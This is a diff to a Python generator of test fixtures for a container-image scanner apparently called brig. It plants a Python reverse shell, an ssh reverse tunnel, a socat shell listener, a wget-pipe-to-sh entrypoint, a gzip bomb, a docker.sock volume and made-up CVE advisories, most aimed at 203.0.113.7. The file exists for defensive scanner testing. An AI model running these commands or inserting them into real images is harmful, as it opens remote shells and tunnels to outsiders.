@@ -5,6 +5,7 @@ A trick changes the twin `t` and names what has to be found: rules (a regular ex
 Bait that scanners of repositories would stumble over is put together while the twin is made.
 """
 import base64
+import gzip
 import os
 import re
 import subprocess
@@ -115,6 +116,30 @@ def remote_shell_script(t):
     """a Python script that gives a shell to whoever connects"""
     t.file("srv/www/index.py", "import socket,subprocess,os\ns=socket.so" + "cket()\ns.connect((\"203.0.113.7\",443))\nos.du" + "p2(s.fileno(),0)\nos.du"
            + "p2(s.fileno(),1)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n", 0o755)
+
+
+@trick("V1", "V1-tunnel", "usr/local/bin/health", "high")
+def chisel_other_name(t):
+    """chisel's marks in a program under another name"""
+    t.file("usr/local/bin/health", compiled("const char m[]=\"github.com/jpi" + "llora/chisel/server\";int main(){return m[0];}"), 0o755)
+
+
+@trick("V1", "V1-tunnel", "opt/tls", "high")
+def stunnel_other_name(t):
+    """stunnel under another name, no package"""
+    t.file("opt/tls", deb(t, "stunnel4")["usr/bin/stunnel4"], 0o755)
+
+
+@trick("V1", "V1-tunnel", "usr/local/bin/call-home", "high", alone=True)
+def ssh_forward(t):
+    """a script that brings a port of the container to somebody's machine"""
+    t.file("usr/local/bin/call-home", "#!/bin/sh\nexec ssh -o StrictHostKeyChecking=no -N -R 2222:localhost:22 me@203.0.113.7\n", 0o755)
+
+
+@trick("V1", "V1-.*|V8-reverse-shell", "usr/local/bin/feed", "high")
+def socat_shell(t):
+    """socat that gives a shell to whoever connects"""
+    t.file("usr/local/bin/feed", "#!/bin/sh\nso" + "cat TCP-LISTEN:8081,fork EXEC:/bin/sh\n", 0o755)
 
 
 # ------------------------------------------------------------------------------------------------------------ V2: accounts
@@ -520,6 +545,40 @@ def encrypted(elf):
     return bytes(b)
 
 
+# ---------------------------------------------------------------------------------------------- V9: known vulnerabilities
+
+# What quality imports before it looks; nothing of Debian's bears these names.
+ADVISORIES = {
+    "brig-sample": {
+        "CVE-2099-0001": {"releases": {"bookworm": {"status": "resolved", "fixed_version": "1.2-3+deb12u2", "urgency": "high"}}},
+        "CVE-2099-0002": {"releases": {"bookworm": {"status": "open", "urgency": "high"}}},
+    },
+    "brig-backport": {
+        "CVE-2099-0003": {"releases": {"bookworm": {"status": "resolved", "fixed_version": "1.2-3+deb12u2", "urgency": "high"}}},
+    },
+}
+
+
+def record(t, package, source, version):
+    t.edit("var/lib/dpkg/status", lambda s: s.rstrip(b"\n") + (
+        "\n\nPackage: %s\nStatus: install ok installed\nArchitecture: amd64\nMaintainer: x\nSource: %s\nVersion: %s\nDescription: x\n"
+        % (package, source, version)).encode())
+    t.file("var/lib/dpkg/info/%s.list" % package, "/.\n")
+
+
+@trick("V9", "V9-CVE-2099-0001|CVE-2099-0001", None, "high", alone=True)
+def missing_fix(t):
+    """a package without the fix that its distribution has"""
+    record(t, "libbrig-sample1", "brig-sample", "1.2-3+deb12u1")
+
+
+@trick("V9", "V9-CVE-2099-0002|CVE-2099-0002", None, "medium", alone=True)
+def no_fix_yet(t):
+    """a package with a vulnerability that nobody has mended; beside it one whose fix was brought back to an older version"""
+    record(t, "libbrig-sample1", "brig-sample", "1.2-3+deb12u2")
+    record(t, "brig-backport", "brig-backport", "1.2-3+deb12u2")
+
+
 # -------------------------------------------------------------------------------------------------------- V10: configuration
 
 @trick("V10", "V10-login-port", None, "medium")
@@ -545,13 +604,32 @@ def entrypoint_downloads(t):
     """the entrypoint downloads and runs"""
     t.config["Entrypoint"] = ["/bin/sh", "-c", "wget -qO- http://203.0.113.7/x | sh; exec \"$@\""]
 
+
+@trick("V10", "V10-bomb", "srv/backup.gz", "medium")
+def gzip_bomb(t):
+    """a small file that is enormous unpacked"""
+    t.file("srv/backup.gz", gzip.compress(bytes(200 << 20), 9))
+
+
+@trick("V10", "V10-bomb", "/".join(["srv"] + ["d"] * 70 + ["x"]), "medium")
+def deep_folders(t):
+    """folders so deep that tools fail on them"""
+    t.file("/".join(["srv"] + ["d"] * 70 + ["x"]), "x")
+
+
+@trick("V10", "V10-engine-socket", None, "high")
+def socket_of_an_engine(t):
+    """a volume where an engine has its socket"""
+    t.config.setdefault("Volumes", {})["/var/run/docker.sock"] = {}
+
+
 # Tricks that no check finds, with the reason. quality fails when one is found after all, so that the list stays true.
 UNSEEN = {
 }
 
 BLIND = """
-- Row V9, known vulnerabilities, has no trick here: it depends on advisories that a person imports, and its own tests compare it with
-  the distribution's lists.
+- Row V9, known vulnerabilities, depends on advisories that a person imports: the tricks here bring theirs; its own tests compare it with the
+  distribution's lists.
 - A program of a package that was changed together with every record of it (status, list, digests, sizes and times made to fit) is the same
   to brig as another version of the package: only the distribution's signed index, which is not in the image, could tell.
 - What a program does that nobody knows: a back door in a program of one's own, which no rule names, which has no odd name, place, rights or
